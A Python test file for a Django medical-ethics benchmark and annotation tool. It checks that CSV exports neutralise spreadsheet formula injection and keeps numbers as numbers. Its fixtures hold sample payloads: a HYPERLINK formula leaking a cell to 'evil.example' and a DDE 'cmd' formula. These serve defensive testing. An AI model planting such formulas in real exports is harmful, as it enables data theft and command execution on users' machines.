"""Spreadsheet formula injection (issue 13, item 6): every CSV meant for a spreadsheet escapes a text cell that a
spreadsheet would run as a formula; numbers stay numbers; the release's MedES CSV stays byte-exact for the MedES
tools and its escaped form is offered beside it."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.exports import write_export
from annotation.models import Campaign, Label
from annotation.services import adjudicate
from benchmark import exports
from benchmark.importers.medes_questions import import_medes_questions
from benchmark.models import Release, ScenarioStatus
from benchmark.releases import medes_csv, publish_release, release_items
from benchmark.scenarios import create_scenario
from benchmark.taxonomy import ensure_taxonomy
from medes_site import jobs
from medes_site.models import Job, JobStatus
from medes_site.spreadsheet import safe_cell
from tests import campaign_data
from tests.factories import Personas

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
LABEL_FORMULAS = ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r@SUM(A1)")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1", "-1"),  # a plain number is no formula: it stays a number
        ("+0.5", "+0.5"),
        ("-1e3", "-1e3"),
        ("", ""),
        ("尊重患者 = 首要", "尊重患者 = 首要"),
        (-1, -1),
        (0, 0),
        (None, None),
        (True, True),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_nothing_else_changes(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


@pytest.fixture
def campaign(personas: Personas) -> Campaign:
    campaign = campaign_data.build_campaign(personas)
    Campaign.objects.filter(pk=campaign.pk).update(name="=cmd|' /C calc'!A0")  # a hostile campaign name too
    campaign.refresh_from_db()
    item = campaign_data.dispute_one(campaign, personas)
    # the annotators' own rationales, written as formulas (the label CSV is where they land)
    for label, text in zip(item.labels.order_by("pk"), LABEL_FORMULAS, strict=True):
        Label.objects.filter(pk=label.pk).update(rationale=text)
    adjudicate(item, personas.reviewer, campaign_data.RISKY, rationale=FORMULA, note="@SUM(1+1)")
    return campaign


def _csv(campaign: Campaign, what: str) -> list[dict[str, str]]:
    out = io.BytesIO()
    write_export(campaign, what, "csv", out)
    assert out.getvalue().startswith("\ufeff".encode())  # Excel reads the Chinese text
    return list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"))))


def test_the_label_and_accepted_csv_escape_formulas_and_keep_scores_as_numbers(campaign: Campaign) -> None:
    accepted = _csv(campaign, "accepted")[0]
    assert accepted["rationale"] == "'" + FORMULA and accepted["note"] == "'@SUM(1+1)"
    assert accepted["campaign"] == "'=cmd|' /C calc'!A0"
    assert accepted["score_R1"] == "-1" and accepted["score_Q1"] == "1"  # numbers, read back as numbers
    assert float(accepted["score_R1"]) == -1
    labels = _csv(campaign, "labels")
    assert {row["score_R1"] for row in labels} == {"0", "-1"}
    assert sorted(row["rationale"] for row in labels) == sorted("'" + text for text in LABEL_FORMULAS)
    numbers = {key for key in labels[0] if key.startswith("score_")}
    assert not any(cell.startswith(DANGEROUS) for row in labels for key, cell in row.items() if key not in numbers)


def test_the_export_page_job_and_command_write_the_escaped_csv(
    campaign: Campaign, personas: Personas, client_as: Any, tmp_path: Path
) -> None:
    client = client_as(personas.ml_engineer)
    page = client.get(reverse("annotation:campaign_export", args=[campaign.pk]), {"what": "accepted", "format": "csv"})
    body = page.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["rationale"] for row in rows] == ["'" + FORMULA]
    out = tmp_path / "accepted.csv"
    call_command("export_labels", str(campaign.pk), "accepted", "csv", str(out), stdout=io.StringIO())
    assert out.read_bytes().decode("utf-8-sig") == body
    job = jobs.enqueue_job(
        "annotation.export", {"campaign": campaign.pk, "what": "accepted", "format": "csv"}, user=personas.ml_engineer
    )
    assert jobs.execute_job(job.pk) == JobStatus.SUCCEEDED
    job = Job.objects.get(pk=job.pk)
    artifact = client.get(reverse("jobs:artifact", args=[job.pk, 0]))
    assert b"".join(artifact.streaming_content).decode("utf-8-sig") == body  # type: ignore[attr-defined]


@pytest.fixture
def hostile_release(db: None, personas: Personas) -> Release:
    ensure_taxonomy()
    from benchmark.models import Scene

    scene = Scene.objects.get(name="器官移植")
    create_scenario(
        kind="subjective",
        stem=FORMULA,
        norm="+禁止买卖器官",
        scene=scene,
        origin="expert",
        status=ScenarioStatus.ACCEPTED,
    )
    create_scenario(
        kind="subjective",
        stem="患者要求买卖器官，我该怎么办？",
        norm="-1",
        scene=scene,
        origin="expert",
        status=ScenarioStatus.ACCEPTED,
    )
    return publish_release("Hostile-1", user=personas.curator)


def test_the_medes_csv_stays_byte_exact_and_the_spreadsheet_csv_is_escaped(hostile_release: Release) -> None:
    items = release_items(hostile_release)
    exact = exports.export_bytes(hostile_release, "csv")
    assert exact == medes_csv(items)  # what the MedES tools read, unchanged
    rows = list(csv.reader(io.StringIO(exact.decode("utf-8-sig"))))
    assert [FORMULA, "+禁止买卖器官"] in [row[1:3] for row in rows]
    report = import_medes_questions(exact, origin_name="export.csv", dry_run=True)  # it still round-trips
    assert report.duplicates_in_bank == 2 and not report.errors
    spreadsheet = exports.export_bytes(hostile_release, "csv_excel")
    assert spreadsheet.startswith("\ufeff".encode())
    escaped = list(csv.reader(io.StringIO(spreadsheet.decode("utf-8-sig"))))
    assert ["'" + FORMULA, "'+禁止买卖器官"] in [row[1:3] for row in escaped]
    assert ["患者要求买卖器官，我该怎么办？", "-1"] in [row[1:3] for row in escaped]  # a number stays a number
    assert len(escaped) == len(rows) and escaped[0] == rows[0] == ["scene", "query", "reference", "type"]
    assert exports.export_bytes(hostile_release, "csv_excel") == spreadsheet  # the same bytes every time


def test_the_release_page_offers_the_spreadsheet_csv(
    hostile_release: Release, personas: Personas, client_as: Any
) -> None:
    client = client_as(personas.reviewer, HTTP_ACCEPT_LANGUAGE="en")
    page = client.get(reverse("benchmark:release", args=[hostile_release.pk])).content.decode()
    assert 'data-testid="download-csv_excel"' in page and "MedES CSV for spreadsheets" in page
    assert 'data-testid="csv-note"' in page
    download = client.get(reverse("benchmark:release_download", args=[hostile_release.pk, "csv_excel"]))
    assert download.status_code == 200 and download["Content-Disposition"].startswith("attachment")
    assert download.getvalue() == exports.export_bytes(hostile_release, "csv_excel")  # streamed
    api = client.get(reverse("api-release-download", args=[hostile_release.pk, "csv_excel"]))
    assert api.status_code == 200 and api.getvalue() == exports.export_bytes(hostile_release, "csv_excel")


def test_the_export_command_writes_the_spreadsheet_csv(hostile_release: Release, tmp_path: Path) -> None:
    out = tmp_path / "release.csv"
    call_command(
        "export_release", hostile_release.name, "--format", "csv_excel", "--out", str(out), stdout=io.StringIO()
    )
    assert out.read_bytes() == exports.export_bytes(hostile_release, "csv_excel")


def test_the_imported_medes_sample_exports_the_same_csv_as_before(db: None) -> None:
    """The MedES CSV of the published sample is unchanged by the escaping (none of its cells needs it)."""
    from tests.factories import medes

    import_medes_questions(
        medes("objective_questions.csv"), origin_name="o.csv", dry_run=False, status=ScenarioStatus.ACCEPTED
    )
    release = publish_release("Sample")
    assert exports.export_bytes(release, "csv_excel") == exports.export_bytes(release, "csv")
